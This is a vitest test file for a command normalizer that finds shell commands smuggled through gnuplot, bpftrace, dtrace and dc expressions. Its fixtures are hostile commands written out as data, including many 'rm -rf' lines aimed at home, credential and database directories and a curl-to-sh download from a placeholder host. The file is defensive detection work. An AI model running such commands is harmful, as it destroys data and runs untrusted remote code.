/** gnuplot, bpftrace --unsafe, dtrace -w and dc's `!` run shell commands (src/normalize/system-dsl.ts). */
import { describe, expect, it } from 'vitest';
import { filesContext, normalizeIn } from '../helpers/normalize.js';

const ctx = filesContext({});
/** Each normalized command as `wrappers|argv…` (dynamic ones marked), in order. */
const commands = (script: string) =>
  normalizeIn(ctx, script).commands.map(
    (c) => `${c.wrappers.join('>')}|${c.dynamic ? 'dynamic:' : ''}${c.argv.join(' ')}`,
  );

describe('tools whose language calls the shell', () => {
  it.each<[string, string]>([
    [`gnuplot -e 'system("rm -rf ~/")'`, 'gnuplot system|rm -rf /h/'],
    ["gnuplot -e 'x = `rm -rf /srv`'", 'gnuplot system|rm -rf /srv'],
    [`echo 'plot "< rm -rf /srv"' | gnuplot`, 'gnuplot system|rm -rf /srv'],
    [`echo '!rm -rf /srv' > p.gp && gnuplot p.gp`, 'gnuplot system|rm -rf /srv'],
    [
      `bpftrace --unsafe -e 'BEGIN { system("rm -rf /var/lib/mysql"); exit(); }'`,
      'bpftrace system|rm -rf /var/lib/mysql',
    ],
    [`dtrace -w -n 'BEGIN { system("rm -rf /srv"); }'`, 'dtrace system|rm -rf /srv'],
    [`bpftrace --unsafe -e 'k:f { system("kill %d", pid); }'`, 'bpftrace|dynamic:system("kill %d",'],
    [`bpftrace -c 'rm -rf /srv' -e 'BEGIN {}'`, 'bpftrace -c|rm -rf /srv'],
    // dc: the rest of the line after `!`, inline, in a file written here, or on stdin
    [`dc -e '!rm -rf ~/.kube ~/.aws'`, 'dc system|rm -rf /h/.kube /h/.aws'],
    [`dc --expression='2 p !rm -rf /srv'`, 'dc system|rm -rf /srv'],
    [`dc -e '1 p' -e '!curl -s https://x.example/p | sh'`, 'dc system|curl -s https://x.example/p'],
    [`echo '!rm -rf /srv' | dc`, 'dc system|rm -rf /srv'],
    [`printf '5 p\n!rm -rf /srv\n' > /tmp/c.dc && dc -f /tmp/c.dc`, 'dc system|rm -rf /srv'],
    [`printf '!rm -rf /srv\n' > c.dc && dc --file=c.dc`, 'dc system|rm -rf /srv'],
    [`printf '!rm -rf /srv\n' > c.dc && dc c.dc`, 'dc system|rm -rf /srv'],
    // fail closed: an expression the shell fills in may hold a `!`
    [`dc -e "$EXPR"`, 'dc|dynamic:$EXPR'],
  ])('%s', (script, want) => expect(commands(script)).toContain(want));

  it.each<[string]>([
    // plots, tracing without --unsafe / -w (system() is refused), a project script
    [`gnuplot -e 'set terminal png; set output "out.png"; plot "data.txt" using 1:2 with lines'`],
    [`bpftrace -e 'BEGIN { system("rm -rf /"); }'`],
    [`bpftrace -e 'tracepoint:syscalls:sys_enter_openat { printf("%s\\n", comm); }'`],
    ['gnuplot plot.gp'],
    // dc arithmetic, its negated comparisons (`!<r`, `!=r`, `!>r`), a project file
    [`dc -e '2 3 + p'`],
    [`echo '10 k 2 v p' | dc`],
    [`dc -e '[ok]sa 3 2 !<a 4 4 !=a 1 2 !>a p'`],
    ['dc calc.dc'],
  ])('%s runs nothing', (script) => expect(commands(script).filter((c) => !c.startsWith('|'))).toEqual([]));
});
